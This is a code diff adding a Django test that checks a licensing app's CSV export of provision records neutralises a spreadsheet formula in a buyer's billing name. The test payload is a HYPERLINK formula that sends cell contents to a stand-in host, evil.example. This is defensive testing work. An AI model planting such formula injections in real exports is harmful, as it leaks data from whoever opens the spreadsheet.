@@ -106,3 +106,20 @@ def test_the_subject_sees_who_received_their_photos():
     assert selectors.subject_photo_recipients(release) == [
         f"{record.provided_on:%Y-%m-%d} — {order.billing_name} — {dataset.title_en} v1"
     ]
+
+
+def test_csv_injection_staff_provision_records_csv_defuses_a_formula_billing_name(client):
+    """A buyer's billing name that a spreadsheet would run as a formula comes out as text."""
+    import csv
+    import io
+
+    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open record")'
+    order = buy(BuyerFactory(), DatasetFactory(version__photos=1), billing_name=hyperlink)
+    commerce_services.order_mark_paid(order=order, provider="bank_transfer", amount=order.total)
+    record = ProvisionRecord.objects.get(order_line__order=order)
+    assert record.recipient_name == hyperlink  # stored as the buyer typed it
+    client.force_login(StaffFactory())
+    response = client.get(reverse("licensing:provision_records"), {"subject": record.subject_id, "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert [row["recipient"] for row in rows] == ["'" + hyperlink]
+    assert rows[0]["version"] == str(record.dataset_version)
